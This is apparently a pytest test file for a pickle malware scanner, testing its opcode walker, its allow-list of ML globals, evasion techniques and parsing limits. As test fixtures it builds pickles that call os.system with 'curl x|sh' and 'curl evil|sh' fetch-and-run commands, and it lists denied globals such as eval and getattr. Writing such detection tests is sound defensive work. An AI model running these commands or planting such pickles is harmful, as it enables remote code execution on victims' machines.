"""The opcode walker and the allow-list: techniques, protocols, limits. No sample is unpickled."""

from __future__ import annotations

import pickle

import numpy as np
import pytest
import torch

from scanners.allowlist import GlobalVerdict, judge_global
from scanners.limits import PickleLimits
from scanners.pickles import scan_pickle_bytes
from scanners.report import Outcome
from tests.scanners.corpus import DENIED_CALLS, TECHNIQUE_NAMES, reduce_global, technique_pickles

LIMITS = PickleLimits()


def _outcome(data: bytes, limits: PickleLimits = LIMITS) -> Outcome:
    worst = Outcome.CLEAN
    for finding in scan_pickle_bytes(data, len(data), limits).findings:
        if finding.outcome.rank > worst.rank:
            worst = finding.outcome
    return worst


def _codes(data: bytes) -> set[str]:
    return {f.code for f in scan_pickle_bytes(data, len(data), LIMITS).findings}


@pytest.mark.parametrize(("module", "name"), DENIED_CALLS)
def test_walker_denied_call_is_malicious(module: str, name: str) -> None:
    assert _outcome(reduce_global(module, name)) == Outcome.MALICIOUS


@pytest.mark.parametrize("technique", [t for t in TECHNIQUE_NAMES if "load_from_bytes" not in t])
def test_walker_evasion_technique_is_held(technique: str) -> None:
    data, expected = technique_pickles()[technique]
    assert _outcome(data) in expected


@pytest.mark.parametrize("protocol", range(6))
def test_walker_plain_values_any_protocol_are_clean(protocol: int) -> None:
    data = pickle.dumps(
        {"a": [1, 2.5, None, True], "b": ("x", b"y"), "c": {1, 2}}, protocol=protocol
    )
    assert _outcome(data) == Outcome.CLEAN


@pytest.mark.parametrize("protocol", [2, 3, 4, 5])
def test_walker_numpy_arrays_and_rng_are_clean(protocol: int) -> None:
    value = {"a": np.arange(5.0), "g": np.random.default_rng(1), "r": np.random.RandomState(1)}
    assert _outcome(pickle.dumps(value, protocol=protocol)) == Outcome.CLEAN


def test_walker_load_from_bytes_payload_is_handed_back_for_scanning() -> None:
    data, _ = technique_pickles()["load_from_bytes_evil_small"]
    expected = [reduce_global("os", "system", "curl x|sh")]
    assert scan_pickle_bytes(data, len(data), LIMITS).nested == expected


def test_walker_global_before_breakage_is_still_reported() -> None:
    data = reduce_global("os", "system")[:-1] + b"\xff"
    assert _codes(data) == {"PICKLE_GLOBAL_DENIED", "PICKLE_MALFORMED"}


def test_walker_truncated_benign_pickle_is_error() -> None:
    data = pickle.dumps(list(range(100)), protocol=4)[:-5]
    assert _outcome(data) == Outcome.ERROR


def test_walker_stack_global_reads_memo_not_neighbouring_strings() -> None:
    # picklescan issue 22: allowed-looking strings pushed last, the real names taken from the memo
    data, _ = technique_pickles()["memo_put_get_text"]
    found = scan_pickle_bytes(data, len(data), LIMITS).findings
    assert [f.details["global"] for f in found] == ["os.system"]


def test_walker_opcode_limit_is_error() -> None:
    data = pickle.dumps(list(range(20000)), protocol=2)
    assert "PICKLE_LIMIT_EXCEEDED" in {
        f.code for f in scan_pickle_bytes(data, len(data), PickleLimits(max_opcodes=5000)).findings
    }


def test_walker_stack_depth_limit_is_error() -> None:
    data = b"\x80\x02" + b"K\x01" * 20000 + b"."
    found = scan_pickle_bytes(data, len(data), PickleLimits(max_stack_depth=1000)).findings
    assert [f.code for f in found] == ["PICKLE_LIMIT_EXCEEDED"]


def test_walker_string_length_past_data_is_malformed_without_allocating() -> None:
    data = b"\x80\x04\x8d" + (2**62).to_bytes(8, "little") + b"x."
    assert _codes(data) == {"PICKLE_MALFORMED"}


def test_walker_torch_state_dict_pickle_is_clean() -> None:
    import io
    import zipfile

    buf = io.BytesIO()
    torch.save({f"w{i}": torch.zeros(2) for i in range(50)}, buf)
    data = zipfile.ZipFile(buf).read("archive/data.pkl")
    assert _outcome(data) == Outcome.CLEAN


def test_walker_denied_finding_carries_decompiled_call() -> None:
    from scanners.pickles import findings_with_calls

    data = reduce_global("os", "system", "curl evil|sh")
    (finding,) = findings_with_calls(scan_pickle_bytes(data, len(data), LIMITS))
    assert finding.details["call"] == "os.system('curl evil|sh')"


@pytest.mark.parametrize(
    ("module", "name"),
    [
        ("torch._utils", "_rebuild_tensor_v2"),
        ("torch", "FloatStorage"),
        ("collections", "OrderedDict"),
        ("numpy.core.multiarray", "_reconstruct"),
        ("numpy._core.multiarray", "_reconstruct"),
        ("__builtin__", "set"),
        ("copy_reg", "_reconstructor"),
        ("torch.nn.modules.linear", "Linear"),
    ],
)
def test_allowlist_ml_global_is_allowed(module: str, name: str) -> None:
    assert judge_global(module, name).verdict == GlobalVerdict.ALLOWED


@pytest.mark.parametrize(
    ("module", "name", "verdict"),
    [
        ("__builtin__", "eval", GlobalVerdict.DENIED),
        ("os.path", "join", GlobalVerdict.DENIED),
        ("torch.serialization", "os", GlobalVerdict.DENIED),
        ("builtins", "getattr", GlobalVerdict.DENIED),
        ("torch.nn.modules.linear", "Linear.__init__", GlobalVerdict.DENIED),
        ("my_lib", "Model", GlobalVerdict.UNKNOWN),
        ("__main__", "Net", GlobalVerdict.UNKNOWN),
    ],
)
def test_allowlist_non_ml_global_is_graded(module: str, name: str, verdict: GlobalVerdict) -> None:
    assert judge_global(module, name).verdict == verdict


@pytest.mark.parametrize(
    "body",
    [b"](K\x01K\x02u", b")K\x01K\x02s", b"K\x05K\x01K\x02s", b"N(K\x01K\x02u"],
    ids=["list", "tuple", "int", "none"],
)
def test_walker_setitems_on_a_non_mapping_is_malicious(body: bytes) -> None:
    assert _codes(b"\x80\x02" + body + b".") == {"PICKLE_SETITEM_NON_DICT"}


def test_walker_setitems_on_a_dict_built_by_a_call_is_clean() -> None:
    data = pickle.dumps(__import__("collections").OrderedDict(a=1), protocol=2)
    assert _codes(data) == set()
